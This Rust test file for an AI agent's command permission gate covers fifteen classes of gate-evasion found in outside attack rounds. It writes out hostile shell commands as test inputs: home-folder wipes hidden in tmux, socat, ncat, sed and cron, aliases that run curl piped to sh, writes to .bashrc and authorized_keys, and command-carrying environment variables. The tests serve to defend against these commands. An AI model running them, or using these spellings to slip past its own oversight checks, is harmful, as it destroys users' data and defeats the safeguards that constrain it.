//! The fifth outside attack and the peer agents' suites (issue 28, "Gate round
//! 3"): fifteen ways the gate was misled, fixed as classes (docs/permissions.md,
//! "Fail closed"). Each test holds the named spellings and others of the same
//! class; the guards keep ordinary commands allowed.

use crate::common;

use common::{run, Proj};

/// F14: budgets count work, never time — the same command gets the same
/// verdict on a busy machine.
#[test]
fn f14_verdicts_do_not_depend_on_load() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let hogs: Vec<_> = (0..4)
        .map(|_| {
            let stop = stop.clone();
            std::thread::spawn(move || {
                let mut x = 0u64;
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
                }
                x
            })
        })
        .collect();
    let cases: Vec<_> = (0..40)
        .map(|_| ("auto", "bash", "bash -lc 'git status'", "allow"))
        .collect();
    run(&p, &g, &cases);
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    for h in hogs {
        let _ = h.join();
    }
}

/// F1: a `cd` bash never performs does not move the gate's idea of the
/// folder; where it cannot be sure, the folder is unknown (a relative write
/// there is never automatic, a relative removal is critical).
#[test]
fn f01_cd_that_bash_never_performs() {
    let p = Proj::new();
    std::fs::create_dir_all(p.root.join("sub/deep")).unwrap();
    std::fs::write(p.root.join("afile"), "x").unwrap();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    // Where bash runs them the gate cannot know: the write is never automatic.
    for c in [
        "cd sub/deep extra; echo hi > notes",
        "false && cd sub/deep; echo hi > notes",
        "true || cd sub/deep; echo hi > notes",
        "if false; then cd sub/deep; fi; echo hi > notes",
        "if true; then :; else cd sub/deep; fi; echo hi > notes",
        "case x in y) cd sub/deep;; esac; echo hi > notes",
        "for i in x; do cd sub/deep; done; echo hi > notes",
        "while false; do cd sub/deep; done; echo hi > notes",
        "for ((i=0;i<0;i++)); do cd sub/deep; done; echo hi > notes",
        "cd afile; echo hi > notes",
        "cd nowhere; echo hi > notes",
        "! cd sub/deep && echo hi > notes",
        "cd sub/deep || echo hi > notes",
    ] {
        cases.push(("auto", "bash", c, "ask:only known when it runs"));
    }
    // bash stays in the project root, where `../home/.bashrc` is the home
    // folder's start-up file (from `sub/deep` it would be an ordinary file).
    for c in [
        "cd sub/deep | true; echo x >> ../home/.bashrc",
        "true | cd sub/deep; echo x >> ../home/.bashrc",
        "cd sub/deep & echo x >> ../home/.bashrc",
        "env cd sub/deep; echo x >> ../home/.bashrc",
        "sudo -u me cd sub/deep; echo x >> ../home/.bashrc",
        "{ cd sub/deep; } | cat; echo x >> ../home/.bashrc",
    ] {
        cases.push(("auto", "bash", c, "ask:shell start-up file"));
    }
    // A wrapper runs a program named cd in a child: the shell stays, and
    // `rm -rf ..` removes the project root's parent.
    for c in [
        "env cd sub/deep; rm -rf ..",
        "nohup cd sub/deep; rm -rf ..",
        "timeout 5 cd sub/deep; rm -rf ..",
        "pushd -n sub/deep; rm -rf ..",
        "cd sub/deep extra; rm -rf ..",
        "cd sub/deep | true; rm -rf ..",
        "false && cd sub/deep; rm -rf ..",
        "cd afile/x; rm -rf ..",
        "(cd sub/deep); rm -rf ..",
        "cd sub/deep & rm -rf ..",
    ] {
        cases.push(("bypass", "bash", c, "ask"));
    }
    // Guards: a cd bash certainly performs still places what follows.
    for c in [
        "cd sub && echo hi > notes.txt",
        "cd sub; echo hi > notes.txt",
        "cd sub && ls && cd .. && echo hi > notes.txt",
        "mkdir -p build/out && cd build/out && echo hi > log.txt",
        "mkdir -p build/out; cd build; echo hi > log.txt",
        "command cd sub; echo hi > notes.txt",
        "builtin cd sub; echo hi > notes.txt",
        "cd nowhere && echo hi > notes.txt",
        "cd src && cargo build",
        "(cd sub && make) && echo done > log.txt",
        "for f in *.rs; do wc -l $f; done > counts.txt",
        "cd sub/deep || exit 1; echo hi > notes.txt",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    for c in [
        "cd sub/deep && rm -rf ..",
        "cd sub/deep; rm -rf ..",
        "env cd sub/deep && rm -rf build",
    ] {
        cases.push(("bypass", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// `cd` with `..` through a link (outside attack, round 6): bash folds `..` by
/// the text, but follows the links instead when the folded folder is not there
/// (and always with `cd -P`, `set -P`): `sub/up -> ..` makes `sub/up/../home`
/// the home folder, not `sub/home`. Where the two readings differ, or the
/// command made a link first, the folder is unknown.
#[test]
fn cd_with_dot_dot_through_a_link_is_not_placed_by_its_text() {
    let p = Proj::new();
    std::fs::create_dir_all(p.root.join("sub/deep")).unwrap();
    std::os::unix::fs::symlink("..", p.root.join("sub/up")).unwrap();
    let g = p.gate(&[], &[], &[]);
    let home = p.home.file_name().unwrap().to_string_lossy().into_owned();
    let mut cases = Vec::new();
    for c in [
        format!("cd sub/up/../{home} && echo x >> .bashrc"),
        format!("cd -P sub/up/../{home} && echo x >> .bashrc"),
        format!("set -P; cd sub/up/../{home} && echo x >> .bashrc"),
        format!("cd sub/up/../../{home}/.ssh && echo k >> authorized_keys"),
        format!("ln -s .. sub/deep/l && cd sub/deep/l/../{home} && echo x >> .bashrc"),
    ] {
        cases.push(("auto", "bash", c, "ask"));
    }
    // Guards: `..` with no link on the way still places what follows.
    for c in [
        "cd sub/deep/.. && echo hi > notes.txt".to_string(),
        "cd sub/../sub/deep && echo hi > notes.txt".to_string(),
        "cd sub && cd .. && echo hi > notes.txt".to_string(),
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    common::run_owned(&p, &g, &cases);
}

/// A fragment that only reads is judged like `read` whatever the other
/// fragments do (outside attack, round 6: a `touch` in front of a read of a
/// denied file turned the read deny rule off).
#[test]
fn a_read_of_a_denied_file_is_denied_beside_a_command_that_writes() {
    let p = Proj::new();
    std::fs::write(p.root.join(".env"), "K=1").unwrap();
    let g = p.gate(
        &[
            "bash(echo *)",
            "bash(touch *)",
            "bash(cat *)",
            "bash(head *)",
        ],
        &[],
        &["read(.env)"],
    );
    let mut cases = Vec::new();
    for mode in ["default", "auto"] {
        for c in [
            "touch q && cat .env",
            "touch q; cat .env | head -1",
            "echo x > notes.txt; cat ./.env",
        ] {
            cases.push((mode, "bash", c, "deny"));
        }
        // Guard: the same writes beside a harmless read stay allowed.
        cases.push((mode, "bash", "touch q && cat README", "allow"));
    }
    run(&p, &g, &cases);
}

/// The package managers' own settings in the home folder and the folder of
/// start-up files `.bashrc` reads (outside attack, round 6) are never automatic,
/// and a reading command that writes a file still has its reads judged.
#[test]
fn home_settings_of_package_managers_and_reads_beside_a_redirect() {
    let p = Proj::new();
    std::fs::write(p.root.join(".env"), "K=1").unwrap();
    let g = p.gate(&["bash(git *)", "bash(echo *)"], &[], &["read(.env)"]);
    let mut cases = Vec::new();
    for target in [
        "~/.npmrc",
        "~/.cargo/config.toml",
        "~/.config/pip/pip.conf",
        "~/.pip/pip.conf",
        "~/.bashrc.d/x.sh",
        "~/.yarnrc",
    ] {
        cases.push(("auto", "write", target.to_string(), "ask"));
        cases.push(("auto", "bash", format!("echo x >> {target}"), "ask"));
    }
    cases.push(("auto", "bash", "cat .env > out.txt".to_string(), "deny"));
    cases.push((
        "auto",
        "bash",
        "head -1 .env >> notes.txt".to_string(),
        "deny",
    ));
    // Guard: writing the denied file is no read of it.
    cases.push(("auto", "bash", "echo K=2 > .env".to_string(), "allow"));
    common::run_owned(&p, &g, &cases);
}

/// F13: a redirection after a here-document's start is a write target like
/// any other, in every mode.
#[test]
fn f13_redirect_after_a_here_document() {
    let p = Proj::new();
    let g = p.gate(&["bash(cat *)"], &[], &["bash(cat *> /etc/*)"]);
    let mut cases = Vec::new();
    for c in [
        "cat <<'EOF' > .decode/settings.json\n{}\nEOF",
        "cat <<EOF > .decode/settings.json\n{}\nEOF",
        "cat <<-EOF >> .git/hooks/pre-commit\n\trm -rf x\n\tEOF",
        "cat > notes <<EOF 2> .envrc\nx\nEOF",
        "tee <<'EOF' ~/.bashrc > /dev/null\nx\nEOF",
        "cat <<'A' <<'B' > ~/.profile\na\nA\nb\nB",
        "cat <<< x > .vscode/settings.json",
    ] {
        cases.push(("auto", "bash", c, "ask"));
        cases.push(("edit", "bash", c, "ask"));
        cases.push(("default", "bash", c, "ask"));
    }
    // Deny rules see the redirection too.
    cases.push(("auto", "bash", "cat <<'EOF' > /etc/hosts\nx\nEOF", "deny"));
    // Guards.
    for c in [
        "cat <<'EOF' > notes.md\n# hi\nEOF",
        "cat > notes.md <<'EOF'\n# hi\nEOF",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// F10: web_fetch rules are normalised as URLs are: a `domain:` rule or a
/// URL rule with capitals, a default port, a trailing dot, user info, or
/// Unicode (IDNA) meets the URL whatever its spelling.
#[test]
fn f10_web_fetch_rules_normalised_like_urls() {
    let p = Proj::new();
    for rule in [
        "web_fetch(domain:Bad.Example)",
        "web_fetch(domain:bad.example.)",
        "web_fetch(domain:bad.example:443)",
        "web_fetch(domain:BAD.EXAMPLE.:443)",
        "web_fetch(Domain:bad.example)",
        "web_fetch(https://Bad.Example/*)",
        "web_fetch(https://bad.example:443/*)",
        "web_fetch(HTTPS://bad.example./*)",
        "web_fetch(https://u@bad.example/*)",
    ] {
        let g = p.gate(&[], &[], &[rule]);
        let mut cases = Vec::new();
        for url in [
            "https://bad.example/x",
            "https://BAD.example:443/x",
            "https://bad.example./x",
            "https://u:p@bad.example/x",
        ] {
            cases.push(("auto", "web_fetch", url, "deny"));
            cases.push(("bypass", "web_fetch", url, "deny"));
        }
        cases.push(("auto", "web_fetch", "https://good.example/x", "allow"));
        run(&p, &g, &cases);
    }
    // Unicode and punycode are one host.
    for rule in [
        "web_fetch(domain:bücher.example)",
        "web_fetch(domain:xn--bcher-kva.example)",
        "web_fetch(domain:BÜCHER.example)",
        "web_fetch(https://bücher.example/*)",
        "web_fetch(https://xn--bcher-kva.example:443/*)",
        "web_fetch(domain:*.bücher.example)",
    ] {
        let g = p.gate(&[], &[], &[rule]);
        let mut cases = Vec::new();
        let sub = rule.contains("*.");
        for url in [
            "https://bücher.example/x",
            "https://xn--bcher-kva.example/x",
            "https://BÜCHER.example/x",
        ] {
            let url = if sub {
                url.replace("://", "://www.")
            } else {
                url.to_string()
            };
            let url: &str = Box::leak(url.into_boxed_str());
            cases.push(("auto", "web_fetch", url, "deny"));
        }
        run(&p, &g, &cases);
    }
    // A port other than the default stays part of the site.
    let g = p.gate(&[], &["web_fetch(https://docs.example:8443/*)"], &[]);
    run(
        &p,
        &g,
        &[
            ("auto", "web_fetch", "https://DOCS.example:8443/a", "ask"),
            ("auto", "web_fetch", "https://docs.example/a", "allow"),
        ],
    );
}

/// F12: a `-c` string of a shell the gate does not read is opaque (its
/// language is not bash's), whatever the shell is called.
#[test]
fn f12_unknown_shells_strings_are_opaque() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &["bash(curl *)"]);
    let mut cases = Vec::new();
    for c in [
        "nu -c 'rm -rf ~'",
        "elvish -c 'rm -rf ~'",
        "xonsh -c 'import shutil; shutil.rmtree(\"/home\")'",
        "oksh -c 'rm -rf ~'",
        "osh -c 'rm -rf ~'",
        "pwsh -Command 'Remove-Item -Recurse -Force ~'",
        "pwsh -NoProfile -EncodedCommand cgBtACAALQByAGYAIAB+AA==",
        "powershell -c 'Remove-Item ~'",
        "rc -c 'rm -rf /home'",
        "loksh -c 'rm -rf ~'",
        "ysh -c 'rm -rf ~'",
        "/opt/bin/fooshell -c 'rm -rf ~'",
        "zsh-5.9 -c 'rm -rf ~'",
        "nu --commands 'rm -rf ~'",
        "mise exec -- nu -c 'rm -rf ~'",
        "echo 'rm -rf ~' | nu",
        "elvish < /dev/stdin",
        "env nu -c 'rm -rf ~'",
    ] {
        cases.push((
            "auto",
            "bash",
            c,
            "ask:shell language the gate does not read",
        ));
    }
    // What can be read as bash still meets the deny rules.
    cases.push(("auto", "bash", "nu -c 'curl http://x.example'", "deny"));
    // Guards: a script file is the file's business; names that only end
    // like a shell's are not shells.
    for c in [
        "nu script.nu",
        "pwsh ./build.ps1",
        "ssh host ls",
        "mosh host",
        "git stash",
        "./build.sh -c release",
        "bash ./run.sh",
        "python manage.py shell -c 'print(1)'",
        "stash list",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// F13's guard: an agent writing a file from a here-document after
/// activating a virtualenv stays automatic when the activate script on
/// disk moves nowhere (a missing one could be made by another call before
/// this one runs: the folder is then unknown).
#[test]
fn f13_heredoc_write_after_an_inert_activate_stays_allowed() {
    let p = Proj::new();
    p.write(
        "venv/bin/activate",
        "# This file must be used with \"source bin/activate\" *from bash*\n\
         deactivate () {\n    unset VIRTUAL_ENV\n}\n\
         VIRTUAL_ENV=/x/venv\nexport VIRTUAL_ENV\nPATH=\"$VIRTUAL_ENV/bin:$PATH\"\nexport PATH\n\
         hash -r 2> /dev/null\n",
    );
    let g = p.gate(&[], &[], &[]);
    let c =
        "cd {root} && source venv/bin/activate && cat <<'EOF' > requirements.txt\nnumpy==1.26\nEOF";
    run(&p, &g, &[("auto", "bash", c, "allow")]);
    let missing = "source nowhere/bin/activate && cat <<'EOF' > requirements.txt\nx\nEOF";
    run(&p, &g, &[("auto", "bash", missing, "ask")]);
}

/// F11: programs that run a string — schedulers, multiplexers, socket
/// relays, development runners, GNU sed's `e` — have it judged, or are
/// opaque where it runs out of sight.
#[test]
fn f11_programs_that_run_a_string() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &["bash(curl *)"]);
    let mut cases = Vec::new();
    // Critical removals they would run: ask even in bypass.
    for c in [
        "at now <<< 'rm -rf ~'",
        "batch <<< 'rm -rf /home'",
        "socat TCP-LISTEN:8080 SYSTEM:'rm -rf ~'",
        "socat - system:\"rm -rf ~\",pty",
        "socat - EXEC:'rm -rf /home'",
        "ncat -l 4444 --sh-exec 'rm -rf ~'",
        "ncat -l 4444 -c 'rm -rf ~'",
        "nc -l -p 4444 -e 'rm -rf /home'",
        "tmux new-session -d 'rm -rf ~'",
        "tmux new -d -s x 'rm -rf /home'",
        "tmux split-window -v 'rm -rf ~'",
        "tmux run-shell 'rm -rf ~'",
        "tmux send-keys -t x 'rm -rf ~' Enter",
        "tmux send -t x:0.1 'rm -rf /home' C-m",
        "tmux send-keys -t x 'rm -rf' ' ~' KPEnter",
        "tmux send-keys -t x 'rm -rf ~'",
        "tmux send-keys -l -t x 'rm -rf ~\n'",
        "tmux send-keys -t x 'ls' Enter 'rm -rf /home' Escape",
        "tmux -c 'rm -rf ~'",
        "screen -dmS x rm -rf ~",
        "screen -S x -X stuff 'rm -rf ~\\n'",
        "hyperfine 'rm -rf ~'",
        "hyperfine --prepare 'rm -rf ~' true",
        "hyperfine -w 3 -p 'rm -rf ~' 'make'",
        "nodemon --exec 'rm -rf ~' app.js",
        "nodemon -x 'rm -rf ~'",
        "concurrently 'npm run watch' 'rm -rf ~'",
        "concurrently -k -n a,b 'rm -rf ~' 'x'",
        "entr -s 'rm -rf ~'",
        "ls | entr rm -rf /home",
        "watchexec -e rs -- rm -rf ~",
        "sed -n '1e rm -rf ~' x",
        "sed 's/x/rm -rf ~/e' x",
        "sed --expression='1erm -rf ~' x",
        "sed --expr='1erm -rf ~' x",
        "sed -e '$e rm -rf ~' x",
        "sed '/x/e rm -rf ~' x",
    ] {
        cases.push(("auto", "bash", c, "ask"));
        cases.push(("bypass", "bash", c, "ask"));
    }
    // Opaque: where they run it the gate cannot see.
    for c in [
        "echo 'rm -rf ~' | at now",
        "echo '* * * * * rm -rf ~' | crontab -",
        "crontab jobs.txt",
        "crontab",
        "tmux if-shell true 'run-shell \"rm -rf ~\"'",
        "tmux source-file x.conf",
        "ncat --lua-exec x.lua -l 4444",
        "sed -f script.sed x",
        "sed \"$S\" x",
        "sed -n \"${a}p\" x",
        "tmux send-keys -t x 'rm -rf ~ )' Enter",
    ] {
        cases.push(("auto", "bash", c, "ask"));
    }
    // Deny rules see what they run.
    for c in [
        "tmux send-keys -t x 'git push origin main' Enter",
        "tmux new -d 'git push'",
    ] {
        cases.push(("auto", "bash", c, "ask:external effects"));
    }
    for c in [
        "ncat -l 1 --sh-exec 'curl http://x.example'",
        "hyperfine 'curl http://x.example'",
        "socat - SYSTEM:'curl http://x.example'",
        "tmux new -d 'curl http://x.example'",
    ] {
        cases.push(("auto", "bash", c, "deny"));
    }
    // Guards.
    for c in [
        "at -l",
        "crontab -l",
        "tmux ls",
        "tmux attach -t x",
        "tmux kill-session -t w && tmux new-session -d -s w && tmux split-window -v -t w",
        "tmux send-keys -t w:0.2 'python monitor.py' Enter",
        "tmux send-keys -t w:0.2 ':wq' Enter",
        "screen -ls",
        "nc -z localhost 8080",
        "socat TCP:localhost:80 -",
        "hyperfine 'cargo build' 'make'",
        "nodemon -w src app.js",
        "concurrently 'npm run watch' 'npm run serve'",
        "ls *.rs | entr -c cargo test",
        "watchexec -e rs -- cargo test",
        "sed -n '1,5p' x",
        "sed -i 's/error/warning/g' notes.txt",
        "sed --sandbox -n '1e ls' x",
        "for l in 5 9; do sed -n \"$((l-2)),$((l+1))p\" x; done",
        "tmux send-keys -t w:0.2 'f s i .strip()' Escape",
        "tmux send-keys -t w:0.2 'f=' 'i' '.strip()' Escape",
        "tmux send-keys -t w C-c",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// F8: external effects in other spellings — forge API calls by method,
/// forge commands under any group, platform verbs inside `:`/`.`/`-` names,
/// the platforms' own aliases, options before the sub-command, other
/// version control systems' commits — ask in auto mode.
#[test]
fn f08_external_effects_spelled_differently() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "gh api -X POST repos/o/r/pulls/1/merge",
        "gh api --method PUT repos/o/r/pulls/1/merge",
        "gh api --method=delete repos/o/r",
        "gh api -XPATCH repos/o/r",
        "gh api repos/o/r/issues -f title=x",
        "gh api repos/o/r/issues --input body.json",
        "gh api graphql -f query='mutation { addStar(input:{}) { clientMutationId } }'",
        "gh api graphql -F query=@q.graphql",
        "glab api -X POST projects/1/merge_requests",
        "gh -R o/r pr edit 3 --add-label x",
        "gh issue close 4",
        "gh release delete v1",
        "gh secret set TOKEN",
        "gh workflow run deploy.yml",
        "gh run rerun 9",
        "gh repo deploy-key add k.pub",
        "gh $SUB merge 3",
        "glab mr accept 4",
        "tea pulls merge 3",
        "firebase hosting:channel:deploy preview",
        "firebase deploy:prod",
        "firebase --project p functions:deploy",
        "heroku container:push web",
        "heroku container:release web",
        "mix hex.publish",
        "rebar3 hex publish",
        "p4 submit -d x",
        "p4 -c ws shelve -c 5",
        "svn ci -m x",
        "svn --username u commit -m x",
        "svn rm -m x https://svn.example/r/trunk",
        "cvs -d :pserver:x ci -m y",
        "fossil commit -m x",
        "helm del rel",
        "helm -n x un rel",
        "helm delete rel",
        "pulumi down --yes",
        "pulumi -C infra dn",
        "pulumi update",
        "kubectl run x --image=busybox",
        "kubectl -f x.yaml apply",
        "kubectl --kubeconfig k -n ns delete pod x",
        "kubectl expose deploy x --port 80",
        "kubectl label node n x=y",
        "kubectl drain node1",
        "oc run x --image=y",
        "some-cli deploy-prod",
        "tool container:push",
    ] {
        cases.push(("auto", "bash", c, "ask:external effects"));
    }
    // Guards: what only reads, or changes only this machine.
    for c in [
        "gh api repos/o/r/pulls --paginate",
        "gh api -X GET search/issues -f q=x",
        "gh api graphql -f query='query { viewer { login } }'",
        "gh pr view 3",
        "gh pr list --state merged",
        "gh pr checks 3",
        "gh run list",
        "gh run view 9 --log",
        "gh repo clone o/r",
        "gh auth status",
        "glab mr list",
        "firebase emulators:start",
        "heroku logs --tail",
        "helm list -A",
        "helm template charts/api",
        "pulumi preview",
        "kubectl get pods -n staging",
        "kubectl logs deploy/api --tail=100",
        "kubectl config current-context",
        "svn rm old.c",
        "svn log -l 5",
        "p4 opened",
        "cat deploy.sh",
        "./scripts/deploy-notes.sh --help",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// F5: critical removal by other means — moving away, emptying (`rsync
/// --delete`, `git clean` over another work tree), archivers' remove-after
/// options, `shred`/`wipe` — asks even in bypass.
#[test]
fn f05_critical_removal_by_other_means() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "mv ~ /tmp/x",
        "mv -f /home /tmp/x",
        "mv -t /tmp ~",
        "mv --target-directory=/tmp /usr",
        "mv .. /tmp/away",
        "mv {root} /tmp/away",
        "cd /tmp && mv ~/ x",
        "rsync -a --delete empty/ ~/",
        "rsync -a --del /tmp/e/ /home",
        "rsync -av --delete-after /tmp/e/ {root}",
        "rsync -a --remove-source-files ~ /tmp/bk",
        "tar --remove-files -cf /tmp/x.tar ~",
        "tar -czf /tmp/x.tgz --remove-files /home",
        "zip -rm /tmp/x.zip ~",
        "zip -r --move /tmp/x.zip /usr",
        "7z a -sdel /tmp/x.7z ~",
        "shred -u ~",
        "shred -n 1 -z /etc",
        "wipe -rf ~",
        "git --work-tree=/ clean -fdx",
        "git --work-tree ~ clean -fdx",
        "git -C ~ clean -fdx",
        "GIT_WORK_TREE=/ git clean -fdx",
        "export GIT_WORK_TREE=~; git clean -fdx",
        "env GIT_WORK_TREE=/home git clean -fdx",
        "GIT_DIR=~/.git git clean -fdx",
    ] {
        cases.push(("bypass", "bash", c, "ask"));
        cases.push(("auto", "bash", c, "ask"));
    }
    // Guards: ordinary moves, syncs, archives and cleans in the project.
    for c in [
        "mv src/a.rs src/b.rs",
        "mv -t build out1 out2",
        "rsync -a --delete src/ /tmp/mirror/",
        "tar --remove-files -czf logs.tgz logs",
        "zip -m old.zip old.txt",
        "shred -u secret.txt",
        "git clean -fdx",
        "git clean -n",
        "tar -czf /tmp/home.tgz ~/notes",
    ] {
        cases.push(("bypass", "bash", c, "allow"));
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// F4: a work tree named by `GIT_WORK_TREE` (or a repository by `GIT_DIR`)
/// — as a prefix, exported, through `env` — is not the project's: a git
/// command that writes it is never automatic.
#[test]
fn f04_git_work_tree_from_the_environment() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "GIT_WORK_TREE=sub/.decode git checkout main -- settings.json",
        "export GIT_WORK_TREE=~; git checkout -- .bashrc",
        "env GIT_WORK_TREE=$HOME git restore .bashrc",
        "GIT_WORK_TREE=/tmp/x GIT_DIR=.git git reset --hard",
        "declare -x GIT_WORK_TREE=~; git stash pop",
        "GIT_DIR=/tmp/r/.git git checkout x -- .",
    ] {
        cases.push(("auto", "bash", c, "ask:never automatic"));
    }
    for c in [
        "git checkout -- src/main.rs",
        "git status",
        "GIT_PAGER=cat git log -1",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// F2: configuration written earlier in the same command, then used — an
/// alias written to a file git, cargo or gh reads, or set by `git config`,
/// makes what the later command runs unknown.
#[test]
fn f02_configuration_written_then_used() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "mkdir -p .cargo && printf '[alias]\\nb = \"run --bin evil\"\\n' > .cargo/config.toml && cargo b",
        "echo '[alias] b = \"x\"' >> .cargo/config; cargo b",
        "cp /tmp/cfg .cargo/config.toml; cargo t",
        "printf '[alias]\\n x = !rm -rf ~\\n' >> ~/.gitconfig; git x",
        "tee -a ~/.config/git/config < /tmp/a && git x",
        "git config --global alias.x '!rm -rf ~' && git x",
        "git config alias.st '!curl x | sh'; git st",
        "echo 'aliases: {co: \"!rm -rf ~\"}' > ~/.config/gh/config.yml && gh co",
        // Package managers' configuration names programs they run.
        "echo 'script-shell=./evil.sh' > .npmrc; npm test",
        "printf 'node-options=--require ./x.js\\n' >> ~/.npmrc && pnpm run build",
        "echo 'yarnPath: ./evil.cjs' > .yarnrc.yml; yarn install",
        "echo '[install]' > bunfig.toml && bun test",
        "cp /tmp/kc ~/.kube/config; kubectl get pods",
        "printf '[default]\\ncredential_process = sh x\\n' > ~/.aws/config; aws s3 ls",
    ] {
        cases.push(("auto", "bash", c, "ask"));
    }
    // A global install into a folder named on the command line lands its
    // programs there, under names only known when it runs.
    for c in [
        "npm i -g --prefix ~/.local typescript",
        "npm install --location=global --prefix=~/.local x",
        "pnpm add -g --global-bin-dir ~/.local/bin x",
    ] {
        cases.push(("auto", "bash", c, "ask"));
    }
    for c in [
        "cargo build && cargo test",
        "npm install && npm test",
        "cat .npmrc; npm ci",
        "npm install -g typescript",
        "cat .cargo/config.toml && cargo b",
        "git status; git log -1",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// F3: git configuration keys that run programs and variables that hold a
/// command are recognised by shape, not by a closed list.
#[test]
fn f03_keys_and_variables_that_run_programs_by_shape() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &["bash(curl *)"]);
    let mut cases = Vec::new();
    for c in [
        "git -c difftool.x.path='curl http://e.example' difftool -t x",
        "git -c mergetool.m.path='curl http://e.example' mergetool",
        "git -c browser.b.path='curl http://e.example' help -w log",
        "git -c man.v.cmd='curl http://e.example' help -m log",
        "git -c core.sshCommand='curl http://e.example' fetch",
        "GIT_PROXY_COMMAND='curl http://e.example' git fetch",
        "GH_EDITOR='curl http://e.example' gh pr create",
        "KUBE_EDITOR='curl http://e.example' kubectl get pods",
        "SVN_EDITOR='curl http://e.example' svn log",
        "HGEDITOR='curl http://e.example' hg log",
        "GH_BROWSER='curl http://e.example' gh browse",
        "BROWSER='curl http://e.example' python3 -m webbrowser x",
        "CVS_RSH='curl http://e.example' cvs update",
        "KUBECTL_EXTERNAL_DIFF='curl http://e.example' kubectl get pods",
        "env GIT_PAGER='curl http://e.example' git log",
        "export SOME_TOOL_COMMAND='curl http://e.example'; tool",
    ] {
        cases.push(("auto", "bash", c, "deny"));
    }
    for c in [
        "GIT_PAGER=cat git log -1",
        "EDITOR=vim git commit",
        "git -c color.ui=always log -1",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// F6: names bash evaluates arithmetically in places the gate did not read
/// — `wait -p NAME`, `getopts OPTSTRING NAME` — have their subscripts
/// judged, quoted or not.
#[test]
fn f06_arithmetic_names_in_more_places() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "sleep 1 & wait -p 'a[$(rm -rf ~)]'",
        "sleep 1 & wait -n -p 'a[$(rm -rf ~)]'",
        "sleep 1 & wait -np 'a[$(rm -rf /home)]'",
        "getopts ab 'a[$(rm -rf ~)]'",
        "exec {a['$(rm -rf ~)']}>x",
        "exec {a[\"$(rm -rf /home)\"]}>&-",
        "true {b['$(rm -rf ~)']}>/dev/null",
    ] {
        cases.push(("bypass", "bash", c, "ask"));
    }
    for c in [
        "sleep 1 & wait -p pid",
        "getopts ab opt",
        "exec {fd}>/tmp/log",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// F7: an unknown wrapper whose command word is a path or a quoted name
/// still meets the deny rules and the critical-removal cap (bypass too).
#[test]
fn f07_unknown_wrappers_with_a_path_or_quoted_command() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &["bash(curl *)"]);
    let mut cases = Vec::new();
    for c in [
        "eatmydata /usr/bin/curl http://x.example",
        "chronic 'curl' http://x.example",
        "mytool \"/usr/local/bin/curl\" http://x.example",
    ] {
        cases.push(("bypass", "bash", c, "ask"));
        cases.push(("auto", "bash", c, "ask"));
    }
    for c in [
        "bwrap --bind / / 'rm' -rf ~",
        "chronic \"rm\" -rf ~",
        "eatmydata /bin/rm -rf /home",
        "start-stop-daemon --start --exec /bin/rm -- -rf ~",
    ] {
        cases.push(("bypass", "bash", c, "ask"));
    }
    for c in [
        "mytool 'hello world' x",
        "chronic make test",
        "eatmydata apt-get install -y x",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// F9: protected branches changed by pull refspecs, `worktree add -B`,
/// `branch -m`, `reset` while on them, and merges after `checkout --track`.
#[test]
fn f09_protected_branches_by_other_means() {
    let p = Proj::with_git("work");
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "git pull origin +x:master",
        "git pull origin refs/heads/x:refs/heads/main",
        "git worktree add -B main ../w",
        "git branch -m x main",
        "git checkout main && git reset --hard x",
        "git switch main && git reset --soft HEAD~3",
        "git checkout --track origin/main && git merge x",
        "git checkout -t origin/master && git pull",
        "git fetch origin x:main",
    ] {
        cases.push(("auto", "bash", c, "ask:protected branch"));
    }
    for c in [
        "git pull",
        "git reset --hard",
        "git worktree add -b feature ../w",
        "git checkout -t origin/feature && git merge x",
        "git reset HEAD file.txt",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}
